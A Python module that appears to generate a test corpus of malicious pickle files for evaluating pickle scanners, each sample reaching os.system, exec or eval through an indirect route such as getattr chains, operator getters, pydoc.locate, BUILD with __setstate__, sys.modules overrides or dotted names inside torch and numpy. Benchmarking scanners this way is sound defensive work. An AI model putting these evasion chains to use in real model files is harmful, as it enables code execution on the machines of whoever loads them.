"""Functions that are reached without being named: by attributes, by text, by other calls."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any, Final

from bench.scan_corpus.assembling import Code, named, of, put, stacked, text, whole
from bench.scan_corpus.sample import CANARY, CODE, SHELL, ZEN, Sample, write_bytes

if TYPE_CHECKING:
    from collections.abc import Iterator

_getattr: Final = of("builtins", "getattr")
_import: Final = of("builtins", "__import__")
_os: Final = _import("os")
_system: Final = of("posix", "system")


def _joined(letters: str) -> Code:
    """`"".join([...])`, as published: no constant of the pickle spells the name."""
    return _getattr("", "join")(list(letters))


def _instance_setstate() -> bytes:
    """A Namespace that is given `__setstate__`, then a state: BUILD makes the call."""
    namespace = of("argparse", "Namespace")()
    state = put({"__setstate__": _system})
    return namespace.opcodes + state + b"b" + text(SHELL) + b"b"


def _callable_on_exception() -> bytes:
    error = of("builtins", "Exception")("x")
    return error.opcodes + put({"__setstate__": of("builtins", "exec")}) + b"b" + text(CODE) + b"b"


def _numpy_builtins() -> bytes:
    """NumPy's own `__builtins__`, and BUILD on a function of it: nothing but `numpy` is named."""
    builtins = stacked("numpy", "__builtins__") + b"\x94\x30"
    look_up = of("operator", "getitem")(Code(b"h\x00"), "eval")
    return builtins + look_up(CODE).opcodes


def _sys_modules_override() -> bytes:
    """`sys.modules["codecs"] = os`: what a later name means is changed, no call is made."""
    modules = named("sys", "modules") + text("everybit_absent") + named("os", "path") + b"s0"
    return modules + stacked("everybit_absent", "os.system") + put((SHELL,)) + b"R"


# name, kind, source, opcodes, proof
def _rebuilt(name: str, *arguments: Any) -> Code:
    """An object that `copyreg` makes, as protocols 0 and 1 make theirs."""
    cls = of("operator", name)
    return of("copyreg", "_reconstructor")(cls, cls, *arguments)


_GLOBALS: Final = "__init__.__globals__"
_namespace: Final = of("argparse", "Namespace")
_attrgetter: Final = of("operator", "attrgetter")
_itemgetter: Final = of("operator", "itemgetter")


_CHAINS: Final[tuple[tuple[str, str, str, Code | bytes, str], ...]] = (
    ("getattr-os-system", "getattr", "fickling GHSA-q5qq-mvfm-j35x",
     _getattr(of("importlib", "import_module")("os"), "system")(SHELL), CANARY),
    ("getattr-imported", "getattr", "Slaviero 2011", _getattr(_os, "system")(SHELL), CANARY),
    ("getattr-nested", "getattr", "own",
     _getattr(_getattr(_import("shutil"), "os"), "system")(SHELL), CANARY),
    ("getattr-joined-name", "getattr", "modelscan #331",
     _getattr(of("importlib", "import_module")(_joined("os")), _joined("system"))(SHELL), CANARY),
    ("getattr-of-getattr", "getattr", "own",
     _getattr(of("builtins", "object"), "__getattribute__")(_os, "system")(SHELL), CANARY),
    ("object-getattribute", "getattr", "own",
     of("builtins", "object.__getattribute__")(_os, "system")(SHELL), CANARY),
    ("type-getattribute", "getattr", "own",
     of("builtins", "type.__getattribute__")(of("pathlib", "Path"), "cwd")(), ""),
    ("subclasses-walk", "getattr", "own",
     of("operator", "getitem")(_getattr(of("builtins", "object"), "__subclasses__")(), 0), ""),
    ("attrgetter", "operator", "picklescan malicious12",
     of("operator", "attrgetter")("system")(_os)(SHELL), CANARY),
    ("attrgetter-underscored", "operator", "picklescan GHSA-955r-x9j8-7rhh",
     of("_operator", "attrgetter")("system")(_os)(SHELL), CANARY),
    ("methodcaller", "operator", "picklescan GHSA-84r2-jw7c-4r5q",
     of("operator", "methodcaller")("system", SHELL)(of("pydoc", "locate")("os")), CANARY),
    ("itemgetter-of-globals", "operator", "picklescan _unsafe_globals",
     of("operator", "itemgetter")("system")(_getattr(_os, "__dict__"))(SHELL), CANARY),
    ("operator-call", "operator", "own", of("operator", "call")(_system, SHELL), CANARY),
    ("resolve-name", "text that names", "picklescan GHSA-vvpj-8cmc-gx39",
     of("pkgutil", "resolve_name")("os:system")(SHELL), CANARY),
    ("pydoc-locate-call", "text that names", "fickling CVE-2026-22608",
     of("pydoc", "locate")("os.system")(SHELL), CANARY),
    ("logging-resolve", "text that names", "own",
     of("logging.config", "_resolve")("os.system")(SHELL), CANARY),
    ("xmlrpc-dotted", "text that names", "own",
     of("xmlrpc.server", "resolve_dotted_attribute")(_import("shutil"), "os.system")(SHELL),
     CANARY),
    ("pickle-getattribute", "text that names", "own",
     of("operator", "getitem")(of("pickle", "_getattribute")(_os, "system"), 0)(SHELL), CANARY),
    ("runpy-run-path", "text that names", "fickling GHSA-wfq2-52f7-7qvj",
     of("runpy", "run_path")("absent.py"), ""),
    ("partial", "calls its argument", "picklescan GHSA-655q-fx9r-782v",
     of("functools", "partial")(_system, SHELL)(), CANARY),
    ("reduce", "calls its argument", "own",
     of("functools", "reduce")(of("builtins", "print"), [CANARY, "x"]), CANARY),
    ("map-list", "calls its argument", "own",
     of("builtins", "list")(of("builtins", "map")(_system, [SHELL])), CANARY),
    ("map-set", "calls its argument", "own",
     of("builtins", "set")(of("builtins", "map")(of("builtins", "exec"), [CODE])), CANARY),
    ("map-ordered-dict", "calls its argument", "own",
     of("collections", "OrderedDict")(of("builtins", "map")(of("builtins", "exec"), [CODE])),
     CANARY),
    ("map-counter", "calls its argument", "own",
     of("collections", "Counter")(of("builtins", "map")(of("builtins", "exec"), [CODE])), CANARY),
    ("map-bytearray", "calls its argument", "own",
     of("builtins", "bytearray")(of("builtins", "map")(_system, [SHELL])), CANARY),
    ("starmap-deque", "calls its argument", "own",
     of("collections", "deque")(of("itertools", "starmap")(_system, [(SHELL,)])), CANARY),
    ("filter-tuple", "calls its argument", "own",
     of("builtins", "tuple")(of("builtins", "filter")(_system, [SHELL])), CANARY),
    ("iter-sentinel", "calls its argument", "own",
     of("builtins", "list")(of("builtins", "iter")(of("functools", "partial")(_system, SHELL), 0)),
     CANARY),
    ("sorted-key", "calls its argument", "own",
     of("builtins", "max")(of("builtins", "map")(_system, [SHELL])), CANARY),
    ("method-type", "calls its argument", "own",
     of("types", "MethodType")(_system, SHELL)(), CANARY),
    ("exit-stack", "calls its argument", "own",
     of("contextlib", "ExitStack.callback")(of("contextlib", "ExitStack")(), _system, SHELL), ""),
    ("weakref-finalize", "calls its argument", "own",
     of("weakref", "finalize")(of("argparse", "Namespace")(), _system, SHELL), CANARY),
    ("executor-submit", "calls its argument", "own",
     of("concurrent.futures.thread", "ThreadPoolExecutor.submit")(
         of("concurrent.futures.thread", "ThreadPoolExecutor")(1), of("builtins", "print"), CANARY
     ), ""),
    ("thread-run", "calls its argument", "own",
     of("threading", "Thread.run")(
         of("threading", "Thread")(None, _system, "t", (SHELL,))), CANARY),
    ("defaultdict-getitem", "calls its argument", "own",
     of("operator", "getitem")(
         of("collections", "defaultdict")(of("functools", "partial")(_system, SHELL)), 0), CANARY),
    ("fromiter-map", "calls its argument", "own",
     of("numpy", "fromiter")(of("builtins", "map")(_system, [SHELL]), "int64"), CANARY),
    ("vectorize", "calls its argument", "own",
     of("numpy", "vectorize")(_system)(SHELL), CANARY),
    ("globals-by-attrgetter", "allowed names only", "own",
     _attrgetter("system")(_itemgetter("_os")(_attrgetter(_GLOBALS)(_namespace)))(SHELL), CANARY),
    ("globals-by-getattr", "allowed names only", "own",
     _getattr(_getattr(_getattr(_getattr(_namespace, "__init__"), "__globals__"), "get")("_os"),
              "system")(SHELL), CANARY),
    ("reconstructor", "allowed names only", "own",
     _rebuilt("attrgetter", "system")(
         _rebuilt("itemgetter", "_os")(_rebuilt("attrgetter", _GLOBALS)(_namespace)))(SHELL),
     CANARY),
    ("newobj-function", "allowed names only", "own",
     of("copyreg", "__newobj__")(_attrgetter, "system")(
         of("copyreg", "__newobj_ex__")(_itemgetter, ("_os",), {})(
             of("copyreg", "__newobj__")(_attrgetter, _GLOBALS)(_namespace)))(SHELL), CANARY),
    ("rebuild-from-type", "allowed names only", "own",
     _attrgetter("system")(_itemgetter("_os")(of("torch._tensor", "_rebuild_from_type_v2")(
         _attrgetter(_GLOBALS), of("builtins", "dict"), (_namespace,), {})))(SHELL), CANARY),
    ("partial-of-getters", "allowed names only", "own",
     of("functools", "partial")(_attrgetter("system"), of("functools", "partial")(
         _itemgetter("_os"), of("functools", "partial")(_attrgetter(_GLOBALS), _namespace)())())()(
             SHELL), CANARY),
    ("partial-rebuilt", "BUILD", "own",
     of("functools", "partial")(of("builtins", "int")).opcodes
     + put((_system, (SHELL,), {}, None)) + b"b)R", CANARY),
    ("build-setstate", "BUILD", "fickling GHSA-mhc9-48gj-9gp3", _instance_setstate(), CANARY),
    ("build-setstate-on-exception", "BUILD", "own", _callable_on_exception(), CANARY),
    ("reduce-then-build", "BUILD", "fickling GHSA-mhc9-48gj-9gp3",
     _system(SHELL).opcodes + b"0" + of("builtins", "Exception")("x").opcodes
     + put({"result": 1}) + b"b", CANARY),
    ("numpy-builtins", "attributes of modules", "modelscan #330", _numpy_builtins(), CANARY),
    ("sys-modules-override", "attributes of modules", "picklescan sys_module_override",
     _sys_modules_override(), ""),
    ("sys-modules-lookup", "attributes of modules", "picklescan sys_module_override",
     of("operator", "getitem")(Code(named("sys", "modules")), "os"), ""),
    ("import-this-by-dotted", "dotted names", "own",
     of("importlib", "_bootstrap._gcd_import")("this"), ZEN),
    ("torch-os-system", "dotted names", "fickling #36", of("torch", "os.system")(SHELL), CANARY),
    ("torch-serialization-os", "dotted names", "own",
     of("torch.serialization", "os.system")(SHELL), CANARY),
    ("torch-utils-sys", "dotted names", "own",
     of("torch._utils", "sys.modules.get")("os"), "audit:pickle.find_class"),
    ("collections-sys", "dotted names", "own",
     of("collections", "_sys.modules.get")("os"), "audit:pickle.find_class"),
    ("numpy-os-system", "dotted names", "own",
     of("numpy.lib._npyio_impl", "os.system")(SHELL), CANARY),
    ("ordered-dict-globals", "dotted names", "own",
     of("collections", "namedtuple.__globals__.get")("_sys"), "audit:pickle.find_class"),
    ("class-init-globals", "dotted names", "own",
     of("argparse", "Namespace.__init__.__globals__.get")("_os"), "audit:pickle.find_class"),
)  # fmt: skip


def samples() -> Iterator[Sample]:
    """One file for each chain."""
    for name, kind, source, code, proof in _CHAINS:
        arguments: dict[str, Any] = {"needs": "numpy"} if "numpy" in name else {}
        if name.startswith("torch"):
            arguments["needs"] = "torch"
        yield Sample(
            name=f"chain-{name}.pkl",
            kind=f"indirection: {kind}",
            source=source,
            write=write_bytes(whole(code)),
            loader="pickle" if proof else "",
            proof=proof,
            **arguments,
        )
